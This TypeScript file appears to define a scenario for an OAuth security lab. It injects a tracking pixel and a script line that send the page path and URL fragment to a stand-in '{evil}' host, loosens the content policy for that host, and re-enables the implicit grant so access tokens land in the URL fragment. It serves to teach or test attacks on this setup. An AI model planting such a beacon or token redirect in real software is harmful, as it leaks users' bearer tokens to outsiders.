import type { Lab } from '../engine/lab.ts'

/** Somebody counts the visitors of the shop’s page: a picture, and a line of script that says which page it was. */
const counter: Lab['scene'] = [
  {
    file: 'apps/printing-service/src/views/spa.ejs',
    find: '<main id="main" data-issuer',
    replace: '<img src="{evil}/count.gif" alt="" width="1" height="1">\n<main id="main" data-issuer',
  },
  {
    file: 'apps/printing-service/src/endpoints/spa.ts',
    find: 'data: blob:"',
    replace: 'data: blob: {evil}"',
  },
  {
    file: 'apps/printing-service/src/spa/app.js',
    find: "void explain(location.pathname === '/spa/callback'",
    replace: `// Pages without a server are often told apart by what stands behind the #.
new Image().src = '{evil}/count.gif?page=' + encodeURIComponent(location.pathname + location.hash)
void explain(location.pathname === '/spa/callback'`,
  },
]

/** CloudDrive still has the older way of RFC 6749 §4.2: nobody is let onto it as long as the check stands. */
const olderWay: Lab['scene'] = [
  {
    file: 'apps/cloud-drive-auth/src/protocol/authorization-request.ts',
    find: '    ...(state !== undefined && { state }),\n',
    replace: "    ...(state !== undefined && { state }),\n    response_type: parameters.required('response_type'),\n",
  },
  {
    file: 'apps/cloud-drive-auth/src/http/send-answer.ts',
    find: '  else sendCode(res, iss, found.request, codeOfInteraction(formKey, interaction))\n}\n',
    replace: `  else if (found.request.response_type === 'token') return sendToken(dependencies, res, found.request, codeOfInteraction(formKey, interaction))
  else sendCode(res, iss, found.request, codeOfInteraction(formKey, interaction))
}

// The token itself, in the address — RFC 6749 §4.2.2
async function sendToken(dependencies, res, { redirect_uri }, value) {
  const { iss, resource, codes, accessTokens } = dependencies
  const { makeAccessToken } = await import('../actions/make-tokens.ts')
  const { audienceOf } = await import('../protocol/resource.ts')
  const code = codes.find(value)
  const { scope, authorization_details } = code
  const access = { scope, authorization_details, aud: audienceOf(scope, { iss, resource }) }
  const { access_token, accessToken } = makeAccessToken(dependencies, code, access, now())
  codes.take(code.code_hash, now(), null)
  accessTokens.issue(accessToken)
  res.redirect(303, redirect_uri + '#' + new URLSearchParams({ access_token, token_type: 'Bearer', expires_in: '300' }))
}
`,
  },
]

/** What is different in this copy, guard or not. */
export const scene: Lab['scene'] = [...counter, ...olderWay]
